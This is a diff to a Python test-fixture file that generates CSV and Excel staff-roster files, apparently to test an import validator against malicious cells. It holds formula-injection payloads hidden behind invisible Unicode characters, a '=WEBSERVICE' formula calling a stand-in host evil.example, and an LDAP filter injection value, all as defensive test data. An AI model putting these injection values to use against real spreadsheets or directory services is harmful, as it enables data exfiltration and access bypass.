@@ -24,7 +24,7 @@ from support.workbooks import (
 
 HEADER = ",".join(ROSTER_HEADERS)
 GOOD = "HOS-1,Nguyễn Văn An,snv,Văn phòng,Chuyên viên,0905000101,Đang công tác"
-RLO, LRM, ZWSP = "\u202e", "\u200e", "\u200b"
+RLO, LRM, ZWSP, IDEO_SPACE = "\u202e", "\u200e", "\u200b", "\u3000"
 LONG = "Nguyễn " + "A" * 10_000
 
 
@@ -64,6 +64,14 @@ def rosters(d: Path) -> dict[str, Path]:
              "Đang công tác"],
         ]),
         "control-chars-in-xml.xlsx": d / "control-chars-in-xml.xlsx",
+        # a formula behind what a reader does not see (issue 12 §5): a tab, spaces, a
+        # zero-width space, an ideographic space, a backspace
+        "formula-behind-invisible.csv": _csv(d / "formula-behind-invisible.csv", HEADER, GOOD,
+            *(f"HOS-{n},{lead}=1+1 Nguyễn,snv,Văn phòng,,,Đang công tác"
+              for n, lead in enumerate(("\t", "   ", ZWSP, IDEO_SPACE, "\b"), start=20))),
+        "not-a-name.csv": _csv(d / "not-a-name.csv", HEADER, GOOD,
+                               "HOS-30,Nguyễn Văn 3,snv,Văn phòng,,,Đang công tác",
+                               "HOS-31,Nguyễn <b>An</b>,snv,Văn phòng,,,Đang công tác"),
         # accepted, cleaned
         "control-chars.csv": _csv(d / "control-chars.csv", HEADER, GOOD,
                                   "HOS-7,Trần\x00 Văn\x1b Bình\x7f,snv,Văn\tphòng,,,Đang công tác"),
@@ -103,6 +111,8 @@ def excel_slips(d: Path) -> dict[str, Path]:
             SlipPerson("Nguyễn Văn An"), SlipPerson('=WEBSERVICE("http://evil.example")')]),
         "formula-address.xlsx": slip("formula-address.xlsx", [
             SlipPerson("Nguyễn Văn An", address="=1+1")]),
+        "formula-behind-invisible.xlsx": slip("formula-behind-invisible.xlsx", [
+            SlipPerson("Nguyễn Văn An"), SlipPerson(f"{IDEO_SPACE}{ZWSP}=1+1 Nguyễn")]),
         "long-cell.xlsx": slip("long-cell.xlsx", [SlipPerson(LONG)]),
         "ldap-name.xlsx": slip("ldap-name.xlsx", [SlipPerson("Nguyễn *)(uid=*")]),
         "ldap-address.xlsx": slip("ldap-address.xlsx", [
